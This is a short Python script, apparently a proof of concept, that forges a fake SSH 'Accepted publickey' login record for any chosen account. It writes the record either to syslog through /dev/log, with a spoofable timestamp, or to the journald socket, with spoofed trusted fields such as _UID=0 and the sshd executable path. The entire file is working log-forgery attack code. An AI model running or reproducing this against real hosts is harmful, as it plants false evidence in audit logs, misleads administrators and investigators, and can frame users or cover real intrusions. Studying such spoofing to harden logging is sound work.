#!/usr/bin/python3
"""Tells a host's log of a login that never was, as any user of that host.

    forge-login.py syslog ACCOUNT FINGERPRINT [STAMP]   by /dev/log, as sshd's own line; STAMP ("Nov  1 00:00:00") is believed
                                                        by daemons that keep what a client says of the time
    forge-login.py journal ACCOUNT FINGERPRINT          by the journal's own protocol, with the fields that only journald writes
"""
import socket
import struct
import sys
import time

how, account, fingerprint, *stamp = sys.argv[1:]
message = f"Accepted publickey for {account} from 10.1.2.3 port 50022 ssh2: ED25519 {fingerprint}"


def send(path, data):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as log:
        log.connect(path)
        log.send(data)


def field(name, value):
    # Once as a line, as anybody writes it, and once with its length.
    data = value.encode()
    return name.encode() + b"\n" + struct.pack("<Q", len(data)) + data + b"\n"


if how == "syslog":
    at = stamp[0] if stamp else time.strftime("%b %e %H:%M:%S")
    send("/dev/log", f"<38>{at} sshd-session[4242]: {message}".encode())
else:
    fields = {
        "MESSAGE": message,
        "PRIORITY": "6",
        "SYSLOG_IDENTIFIER": "sshd-session",
        "SYSLOG_FACILITY": "4",
        "SYSLOG_PID": "4242",
        "_UID": "0",
        "_GID": "0",
        "_PID": "4242",
        "_COMM": "sshd-session",
        "_EXE": "/usr/lib/openssh/sshd-session",
        "_SYSTEMD_UNIT": "ssh.service",
        "_TRANSPORT": "syslog",
    }
    send("/run/systemd/journal/socket", b"".join(field(*one) for one in fields.items()))
